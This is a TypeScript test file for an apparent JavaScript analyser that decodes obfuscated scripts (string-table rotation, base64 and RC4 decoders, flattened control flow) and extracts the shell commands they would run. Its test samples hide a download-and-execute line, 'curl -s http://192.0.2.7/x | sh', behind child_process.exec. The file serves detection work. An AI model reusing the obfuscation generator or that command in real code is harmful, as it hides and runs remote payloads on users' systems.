import { beforeAll, describe, expect, test } from 'vitest';
import { useGrammarFiles } from '../../../grammar-files.ts';
import { rc4 } from '../../decode/rc4.ts';
import { known, render } from '../../value.ts';
import { javascript } from './javascript.ts';

beforeAll(async () => {
  useGrammarFiles();
  await javascript.prepare();
});

/** The alphabet of the usual tool: small letters first. */
const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';
const usual = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';

function toTable(bytes: Uint8Array): string {
  const plain = Buffer.from(bytes).toString('base64').replace(/=+$/, '');
  return [...plain].map((letter) => alphabet[usual.indexOf(letter)] ?? '').join('');
}

type Kind = 'plain' | 'base64' | 'rc4';

const decodeBase64 = `var b64 = function (input) {
  var chars = '${alphabet}'; var out = ''; var text = '';
  for (var bc = 0, bs, buffer, idx = 0; buffer = input.charAt(idx++); ~buffer && (bs = bc % 4 ? bs * 64 + buffer : buffer, bc++ % 4) ? out += String.fromCharCode(255 & bs >> (-2 * bc & 6)) : 0) {
    buffer = chars.indexOf(buffer);
  }
  for (var k = 0, length = out.length; k < length; k++) { text += '%' + ('00' + out.charCodeAt(k).toString(16)).slice(-2); }
  return decodeURIComponent(text);
};`;

const decodeRc4 = `var rc4 = function (str, key) {
  var s = [], j = 0, x, res = ''; str = b64(str); var i;
  for (i = 0; i < 0x100; i++) { s[i] = i; }
  for (i = 0; i < 0x100; i++) { j = (j + s[i] + key.charCodeAt(i % key.length)) % 0x100; x = s[i]; s[i] = s[j]; s[j] = x; }
  i = 0; j = 0;
  for (var y = 0; y < str.length; y++) {
    i = (i + 1) % 0x100; j = (j + s[i]) % 0x100; x = s[i]; s[i] = s[j]; s[j] = x;
    res += String.fromCharCode(str.charCodeAt(y) ^ s[(s[i] + s[j]) % 0x100]);
  }
  return res;
};`;

/** A program in the manner of string-table obfuscators: a table, a loop that turns it until a sum fits, a decoder. */
function obfuscated(
  kind: Kind,
  words: readonly string[],
  filler: number,
  body: (word: (text: string) => string) => string,
): string {
  const numbers = [11, 1204, 37, 5, 660, 91, 18, 270];
  const table = [
    ...words,
    ...numbers.map((number, index) => `${number * (index + 1)}n${index}`),
    ...Array.from({ length: filler }, (_each, index) => `filler${index}`),
  ];
  const key = 'k%3!';
  const store = (text: string): string => {
    if (kind === 'plain') return text;
    if (kind === 'base64') return toTable(Buffer.from(text));
    // The cipher works on characters; the table holds their UTF-8.
    const mixed = Buffer.from(rc4(Buffer.from(text), Buffer.from(key)) ?? []).toString('latin1');
    return toTable(Buffer.from(mixed, 'utf8'));
  };
  const turns = Math.floor(table.length / 3);
  const stored = table.map(store);
  const rotated = [...stored.slice(stored.length - turns), ...stored.slice(0, stored.length - turns)];
  const at = (text: string): string => {
    const index = 0x1a0 + table.indexOf(text);
    return kind === 'rc4' ? `_d(0x${index.toString(16)}, '${key}')` : `_d(0x${index.toString(16)})`;
  };
  const terms = numbers.map(
    (number, index) => `parseInt(${at(`${number * (index + 1)}n${index}`).replace('_d', 'd')}) / ${index + 1}`,
  );
  const sum = numbers.reduce((all, number) => all + number, 0);
  const decode = { plain: 'v', base64: '_d.b64(v)', rc4: '_d.rc4(v, k)' }[kind];
  return `
function _t() { const list = ${JSON.stringify(rotated)}; _t = function () { return list; }; return _t(); }
function _d(n, k) {
  const list = _t();
  return _d = function (n, k) {
    n = n - 0x1a0; let v = list[n];
    if (_d.ready === undefined) { ${decodeBase64} ${decodeRc4} _d.b64 = b64; _d.rc4 = rc4; _d.cache = {}; _d.ready = !![]; }
    const first = list[0], name = n + first, held = _d.cache[name];
    if (!held) { v = ${decode}; _d.cache[name] = v; } else { v = held; }
    return v;
  }, _d(n, k);
}
(function (table, wanted) {
  const d = _d, list = table();
  while (!![]) {
    try {
      const sum = ${terms.join(' + ')};
      if (sum === wanted) break; else list['push'](list['shift']());
    } catch (problem) { list['push'](list['shift']()); }
  }
}(_t, ${sum}));
${body(at)}`;
}

describe('string tables that a loop turns until a sum fits', () => {
  test.each<readonly [Kind, number]>([
    ['plain', 5],
    ['plain', 250],
    ['base64', 5],
    ['base64', 60],
    ['rc4', 5],
    ['rc4', 60],
  ])('%s, %i more words', (kind, filler) => {
    const words = ['child_process', 'exec', 'curl -s http://192.0.2.7/x | sh'];
    const text = obfuscated(
      kind,
      words,
      filler,
      (at) => `require(${at(words[0] ?? '')})[${at(words[1] ?? '')}](${at(words[2] ?? '')});`,
    );
    const budget = { steps: 5_000_000, decodedBytes: 10_000_000, commands: 10_000 };
    const reading = javascript.read({
      text,
      args: [known('/app/main.js')],
      env: new Map(),
      cwd: '/app',
      readFile: () => undefined,
      budget,
    });
    expect(reading.commands.map((command) => render(command.argv[2] ?? []))).toContain(
      'curl -s http://192.0.2.7/x | sh',
    );
    expect(reading.truncated).toBe(false);
    // Less than half of what one text may use.
    expect(budget.steps).toBeGreaterThan(2_500_000);
  });

  test('an older manner: the table is turned by a counter', () => {
    const text = `var _0x12=['exec','id','child_process'];(function(list,n){var turn=function(times){while(--times){list['push'](list['shift']());}};turn(++n);}(_0x12,0x2));
var _0x34=function(n,k){n=n-0x0;var v=_0x12[n];return v;};require(_0x34('0x0'))[_0x34('0x1')](_0x34('0x2'));`;
    const budget = { steps: 5_000_000, decodedBytes: 10_000_000, commands: 10_000 };
    const reading = javascript.read({
      text,
      args: [known('/x.js')],
      env: new Map(),
      readFile: () => undefined,
      budget,
    });
    expect(reading.commands.map((command) => render(command.argv[2] ?? []))).toEqual(['id']);
  });

  test('flattened control flow', () => {
    const text = `const order='2|0|1'.split('|');let at=0;let line='';while(!![]){switch(order[at++]){case'0':line+='u';continue;case'1':line+='rl';continue;case'2':line='c';continue;}break;}require('child_process').exec(line);`;
    const budget = { steps: 5_000_000, decodedBytes: 10_000_000, commands: 10_000 };
    const reading = javascript.read({
      text,
      args: [known('/x.js')],
      env: new Map(),
      readFile: () => undefined,
      budget,
    });
    expect(reading.commands.map((command) => render(command.argv[2] ?? []))).toEqual(['curl']);
  });
});
